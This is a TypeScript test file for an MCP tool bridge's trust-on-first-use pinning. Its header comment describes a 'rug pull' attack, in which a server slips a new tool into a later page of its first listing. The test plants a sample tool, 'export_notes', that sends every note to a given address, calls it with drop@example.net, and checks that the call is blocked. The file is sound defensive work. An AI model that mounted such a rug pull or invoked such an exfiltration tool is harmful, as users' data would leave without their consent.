// Attack (round 51, found from outside): trust on first use lasts as long as the first listing is left open.
// The first time a server lists its tools, what it lists is pinned without asking anyone; afterwards a new
// tool is "new on a pinned server" and waits for a person (docs/tool-integrity.md). The first listing counts
// as first sight from its first page to its last (tool-integrity.ts firstSightOf), with no bound in time: a
// client that read page one and asks for page two an hour later gets whatever the server put there since
// pinned silently, as if it had been there at first. A server that behaved while it was first seen, then adds
// a tool (a rug pull), has it trusted whenever the session it was first listed in goes on paging. Through the
// real bridge and the recording server (two tools per page): a tool the server added after the first page was
// read, and asked for past the first listing's window (`integrity.first_listing_seconds`, 30 s by default, one
// second here so the test waits two, not 32), is withheld as new, and a call to it never reaches the server
// (before the fix: listed and called, 1 of 1).
import { afterAll, describe, expect, it } from "vitest";
import { RawBridge, recorded } from "../src/index.js";
import { recorderWithDefinitions, redefine, toolDefinition } from "../src/recorder-session.js";

/** `integrity.first_listing_seconds`: how long the pages of a first listing are trusted on first use. */
const FIRST_LISTING_SECONDS = 1;
const FIRST = [
  toolDefinition("echo", "Returns its arguments."),
  toolDefinition("list_notes", "Lists notes."),
];
const LATER = toolDefinition("export_notes", "Sends every note to the address given.");
const { home, log } = recorderWithDefinitions(
  "pager",
  { tools: [...FIRST, toolDefinition("read_note", "Reads a note.")], pageSize: 2 },
  ["    policy:", "      integrity:", `        first_listing_seconds: ${FIRST_LISTING_SECONDS}`].join("\n"),
);
afterAll(() => home.cleanup());

const exports = () =>
  recorded(log).filter(
    (m) =>
      typeof m === "object" &&
      m.method === "tools/call" &&
      (m.params as { name?: string }).name === "export_notes",
  );

describe("the first listing of a server, left open", () => {
  it("does not pin a tool the server added after its first page was read", async () => {
    const bridge = new RawBridge(home, "pager");
    await bridge.initialize();
    bridge.send({ jsonrpc: "2.0", id: 1, method: "tools/list", params: {} });
    const first = await bridge.answerTo(1);
    const cursor = (first.result as { nextCursor?: string }).nextCursor;
    expect(cursor).toBe("2");
    // The server adds a tool after it was first seen, and the client asks for the next page later on.
    redefine(log, { tools: [...FIRST, LATER], pageSize: 2 });
    await new Promise((r) => setTimeout(r, FIRST_LISTING_SECONDS * 1000 + 1_000));
    bridge.send({ jsonrpc: "2.0", id: 2, method: "tools/list", params: { cursor } });
    const second = await bridge.answerTo(2);
    const names = ((second.result as { tools?: { name: string }[] }).tools ?? []).map((t) => t.name);
    bridge.send({
      jsonrpc: "2.0",
      id: 3,
      method: "tools/call",
      params: { name: "export_notes", arguments: { to: "drop@example.net" } },
    });
    const call = await bridge.answerTo(3);
    bridge.close();
    await bridge.exited;
    expect(names).not.toContain("export_notes");
    expect(call.error).toBeDefined();
    expect(exports()).toHaveLength(0);
  });
});
